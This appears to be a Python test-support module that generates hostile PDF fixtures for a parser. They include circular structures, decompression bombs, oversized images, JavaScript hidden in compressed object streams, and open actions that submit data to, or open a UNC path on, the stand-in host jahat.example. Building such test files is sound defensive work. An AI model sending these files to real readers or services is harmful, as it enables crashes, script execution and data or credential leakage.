"""PDF files whose shape is the attack: circles, lies about sizes, work without end. Listed in `hostile_files`."""

import zlib

from tests.support.hostile_pdf import CONTENTS, PAGES, SHOWN, one_page, stream, updated, with_objects, written

PICTURE = b"/Type /XObject /Subtype /Image"
FORM = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
DRAWING = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X 10 0 R >> >>"
PAINTED = SHOWN + b" q 400 0 0 400 60 60 cm /X Do Q"
MILLION = 1_000_000


def _painting(picture: bytes, **objects: bytes) -> bytes:
    return one_page(page=DRAWING, o4=stream(PAINTED), o10=picture, **objects)


def script_with_hex_name_in_object_stream() -> bytes:
    inside = b"11 0 << /S /J#61va#53cript /J#53 (app.alert\\(1\\)) >>"
    held = stream(zlib.compress(inside), b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode")
    return _with_cross_reference_stream(held)


def _with_cross_reference_stream(held: bytes) -> bytes:
    """Objects 1-5 in the open, 10 the object stream and 11 inside it, all found by a compressed table."""
    objects = with_objects(catalog=b"/OpenAction 11 0 R", o10=held)
    content, places = bytearray(b"%PDF-1.7\n"), {}
    for number, body in objects.items():
        places[number] = len(content)
        content += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start = len(content)
    rows = b""
    for number in range(13):
        place = places.get(number, start if number == 12 else 0)
        rows += b"\x02" + (10).to_bytes(4, "big") + b"\0" if number == 11 else bytes((place > 0,)) + place.to_bytes(4, "big") + b"\0"
    table = stream(zlib.compress(rows), b"/Type /XRef /Size 13 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode")
    return bytes(content + b"12 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start))


def object_stream_in_object_stream() -> bytes:
    inner = b"13 0 << /S /JavaScript /JS (1) >>"
    outer = b"11 0 " + stream(inner, b"/Type /ObjStm /N 1 /First 5")
    return _with_cross_reference_stream(stream(zlib.compress(outer), b"/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode"))


def object_stream_that_extends_itself() -> bytes:
    return _with_cross_reference_stream(stream(b"11 0 << /A 1 >>", b"/Type /ObjStm /N 1 /First 5 /Extends 10 0 R"))


def billion_pages_said() -> bytes:
    return one_page(o2=b"<< /Type /Pages /Kids [3 0 R] /Count 1000000000 >>")


def fewer_pages_said() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(10, 40))
    more = {f"o{number}": b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>" for number in range(10, 40)}
    return one_page(o2=b"<< /Type /Pages /Kids [%s] /Count 1 >>" % kids, **more)


def one_page_a_million_times() -> bytes:
    return one_page(o2=b"<< /Type /Pages /Kids [%s] /Count 1000000 >>" % (b"3 0 R " * MILLION))


def page_tree_in_a_circle() -> bytes:
    return one_page(o2=b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>")


def page_tree_without_ground() -> bytes:
    depth = 20_000
    nodes = {n: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (n + 1, n - 1) for n in range(10, 10 + depth)}
    return written(with_objects(o2=b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>") | nodes)


def outline_in_a_circle() -> bytes:
    entry = b"<< /Title (a) /Parent 10 0 R /Next 11 0 R /First 11 0 R /Last 11 0 R /Dest [3 0 R /Fit] >>"
    return one_page(catalog=b"/Outlines 10 0 R", o10=b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 9 >>", o11=entry)


def form_that_draws_itself() -> bytes:
    return _painting(stream(b"/X Do " * 50, FORM + DRAWING))


def forms_ten_times_ten_deep() -> bytes:
    """Ten forms, each drawing the next one ten times."""
    deep = {
        f"o{n}": stream(b"/X Do " * 10 if n < 20 else b"0 0 9 9 re f", FORM + b"/Resources << /XObject << /X %d 0 R >> >>" % (n + 1))
        for n in range(11, 21)
    }
    return _painting(stream(b"/X Do " * 10, FORM + b"/Resources << /XObject << /X 11 0 R >> >>"), **deep)


def _sized(box: bytes) -> bytes:
    return one_page(o3=b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>" % box)


def page_larger_than_a_country() -> bytes:
    return _sized(b"[0 0 1000000000 1000000000]")


def page_of_negative_size() -> bytes:
    return _sized(b"[595 842 -595 -842]")


def page_of_no_size() -> bytes:
    return _sized(b"[0 0 0 0]")


def page_of_nonsense_size() -> bytes:
    return _sized(b"[null (a) << >> 1e999]")


def page_of_unequal_size() -> bytes:
    return _sized(b"[0 0 0.0001 14400]")


def million_annotations() -> bytes:
    note = b"<< /Type /Annot /Subtype /Square /Rect [0 0 9 9] >>"
    return one_page(page=b"/Annots [%s]" % (b"10 0 R " * MILLION), o10=note)


def million_contents() -> bytes:
    return one_page(o3=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [%s] /Resources << >> >>" % (b"4 0 R " * MILLION), o4=stream(b"0 0 9 9 re f " * 99))


def jbig2_of_sixteen_gigapixels() -> bytes:
    page = b"\0\0\0\0\x30\0\x01\0\0\0\x13" + b"\x7f\xff\xff\xff" * 2 + b"\0" * 8 + b"\0\0\0"
    return _painting(stream(page, PICTURE + b"/Width 131072 /Height 131072 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode"))


def jpx_of_sixteen_gigapixels() -> bytes:
    size = (131072).to_bytes(4, "big")
    header = b"\xff\x4f\xff\x51\x00\x2f\0\0" + size * 2 + b"\0" * 8 + size * 2 + b"\0" * 8 + b"\0\x03" + b"\x07\x01\x01" * 3
    return _painting(stream(header, PICTURE + b"/Width 131072 /Height 131072 /ColorSpace /DeviceRGB /Filter /JPXDecode"))


def fax_of_sixteen_gigapixels() -> bytes:
    parms = b"/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 131072 /Rows 131072 >>"
    return _painting(stream(b"\0" * 64, PICTURE + b"/Width 131072 /Height 131072 /BitsPerComponent 1 /ColorSpace /DeviceGray " + parms))


def compressed_twice() -> bytes:
    """Two gibibytes of nothing in four kilobytes."""
    once = zlib.compressobj(9)
    packed = b"".join(once.compress(bytes(1 << 20)) for _ in range(2048)) + once.flush()
    return one_page(o4=stream(zlib.compress(packed, 9), b"/Filter [/FlateDecode /FlateDecode]"))


def predictor_of_two_billion_columns() -> bytes:
    parms = b"/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 /BitsPerComponent 16 >>"
    return one_page(o4=stream(zlib.compress(SHOWN), parms))


def a_hundred_filters() -> bytes:
    return one_page(o4=stream(b"4" * 4096 + b">", b"/Filter [%s]" % (b"/ASCIIHexDecode " * 100_000)))


def length_that_asks_itself() -> bytes:
    return one_page(o4=b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % SHOWN)


def previous_table_is_this_one() -> bytes:
    once = one_page()
    start = once.rpartition(b"startxref\n")[2].split(b"\n")[0]
    return one_page(trailer=b"/Prev " + start)


def tables_in_a_circle() -> bytes:
    content = one_page(trailer=b"/Prev 0000000000")
    return updated(content.replace(b"/Prev 0000000000", b"/Prev %010d" % (len(content) + 60)), {CONTENTS: stream(SHOWN)})


def thousand_updates() -> bytes:
    content = one_page()
    for _time in range(1000):
        content = updated(content, {CONTENTS: stream(SHOWN)})
    return content


def update_that_hides_a_page() -> bytes:
    """What a reader sees is the update; what it hid must not be stored."""
    hidden = stream(b"BT /F1 24 Tf 60 700 Td (kenari tersembunyi) Tj ET")
    both = one_page(
        o2=b"<< /Type /Pages /Kids [3 0 R 10 0 R] /Count 2 >>", o11=hidden,
        o10=b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 11 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
    )
    return updated(both, {PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"})


def arrays_in_arrays() -> bytes:
    return one_page(o10=b"[" * MILLION + b"]" * MILLION, catalog=b"/Kenari 10 0 R")


def arrays_in_the_words() -> bytes:
    return one_page(o4=stream(b"[" * MILLION + SHOWN))


def number_without_end() -> bytes:
    return one_page(catalog=b"/Kenari " + b"9" * MILLION)


def table_of_two_billion_objects() -> bytes:
    return one_page().replace(b"/Size 6", b"/Size 2147483647")


def objects_without_table() -> bytes:
    many = b"".join(b"%d 0 obj\nnull\nendobj\n" % number for number in range(10, 200_000))
    return one_page().replace(b"xref\n0 6", many + b"xxxx\n0 6")


def pattern_without_end() -> bytes:
    tile = stream(b"0 0 1 1 re f", b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 /Resources << >>")
    used = b"/Pattern cs /P scn 0 0 595 842 re f " + SHOWN
    return one_page(page=b"/Resources << /Font << /F1 5 0 R >> /Pattern << /P 10 0 R >> >>", o10=tile, o4=stream(used))


def letters_that_draw_themselves() -> bytes:
    font = b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [1] /Encoding << /Differences [97 /a] >> /CharProcs << /a 10 0 R >> /Resources << /Font << /F1 5 0 R >> >> >>"
    return one_page(o5=font, o10=stream(b"BT /F1 1 Tf (aaaaaaaaaa) Tj ET"), o4=stream(b"BT /F1 1 Tf (a) Tj ET 9 9 99 99 re f"))


def shading_that_calculates() -> bytes:
    worked = stream(b"{" + b"dup mul " * 200_000 + b"}", b"/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]")
    shade = b"<< /ShadingType 1 /ColorSpace /DeviceGray /Function 11 0 R /Domain [0 1 0 1] /Matrix [595 0 0 842 0 0] >>"
    return one_page(page=b"/Resources << /Font << /F1 5 0 R >> /Shading << /S 10 0 R >> >>", o10=shade, o11=worked, o4=stream(b"/S sh " + SHOWN))


def form_that_sends() -> bytes:
    action = b"<< /S /SubmitForm /F << /FS /URL /F (https://jahat.example/kenari) >> >>"
    return one_page(catalog=b"/OpenAction " + action)


def opened_at_a_stranger() -> bytes:
    return one_page(catalog=b"/OpenAction << /S /GoToR /F (\\\\\\\\jahat.example\\\\kenari) /D [0 /Fit] >>")


def values_brought_along() -> bytes:
    return one_page(catalog=b"/OpenAction << /S /ImportData /F (kenari.fdf) >>")
